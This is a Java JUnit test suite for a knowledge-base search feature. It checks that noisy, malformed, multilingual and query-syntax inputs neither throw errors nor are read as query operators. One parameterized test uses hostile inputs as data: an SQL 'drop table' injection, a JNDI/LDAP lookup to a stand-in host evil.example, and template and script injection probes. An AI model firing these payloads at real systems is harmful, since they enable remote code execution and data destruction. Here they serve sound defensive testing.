package app.parley.knowledge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.nio.file.Path;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileQueriesTest {
    private KnowledgeFixture fixture;

    @BeforeAll
    void open(@TempDir Path folder) {
        fixture = new KnowledgeFixture(folder);
        fixture.entry("When do you open?", "At nine.");
        fixture.entry("営業時間は何時ですか", "朝九時からです。");
        fixture.entry("متى تفتحون؟", "الساعة التاسعة");
    }

    @AfterAll
    void close() {
        fixture.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " \t\n",
                "\0\0\0",
                "???!!!",
                "\ud83d",
                "open \udc00 \ud800",
                "👍👍🏽👨‍👩‍👧",
                "a",
                "the of and",
                "\u202e\u200b\ufeff",
            })
    void saysNothingInParticularToNoise(String noise) {
        assertThatCode(() -> fixture.knowledge.search(noise, 5)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "heading.words:* OR text.words:[* TO *]",
                "open~2^9 AND (NOT \"",
                "/.*/ +open -open",
                "' or 1=1; drop table knowledge_documents --",
                "open\\",
                "${jndi:ldap://evil.example/a} {{7*7}} <script>",
            })
    void readsNoQuerySyntax(String syntax) {
        assertThatCode(() -> fixture.knowledge.search(syntax, 5)).doesNotThrowAnyException();
        assertThat(fixture.knowledge.search("when do you open", 5)).isNotEmpty();
    }

    @Test
    void everythingMatchesNothing() {
        assertThat(fixture.knowledge.search("*", 5)).isEmpty();
        assertThat(fixture.knowledge.search("*:*", 5)).isEmpty();
        assertThat(fixture.knowledge.search("[a TO z]", 5)).isEmpty();
    }

    @Test
    void readsOnlyTheBeginningOfALongQuestion() {
        var farAway = "zzzz ".repeat(200) + "when do you open";

        assertThat(fixture.knowledge.search(farAway, 5)).isEmpty();
        assertThat(fixture.knowledge.search("when do you open " + "é".repeat(5_000_000), 5))
                .isNotEmpty();
        assertThatCode(() -> fixture.knowledge.search("x" + "😀".repeat(400), 5))
                .doesNotThrowAnyException();
    }

    @Test
    void manyDifferentWordsAreNoTrouble() {
        var words = IntStream.range(0, 166)
                .mapToObj(i -> Integer.toString(1_000 + i, 36))
                .collect(Collectors.joining(" "));

        assertThatCode(() -> fixture.knowledge.search("open " + words, 5)).doesNotThrowAnyException();
    }

    @Test
    void anyCharactersAreSearchedFor() {
        var random = new Random(11);
        for (int i = 0; i < 300; i++) {
            var text = random.ints(random.nextInt(60), 0, 0x11000)
                    .mapToObj(Character::toString)
                    .collect(Collectors.joining());
            assertThat(fixture.knowledge.search(text, 5)).allMatch(p -> p.score() >= 0 && p.score() <= 1);
        }
    }

    @Test
    void otherScriptsAreFound() {
        assertThat(fixture.knowledge.search("営業時間は？", 1))
                .extracting(Passage::quote)
                .containsExactly("朝九時からです。");
        assertThat(fixture.knowledge.search("متى تفتحون", 1))
                .extracting(Passage::quote)
                .containsExactly("الساعة التاسعة");
    }
}
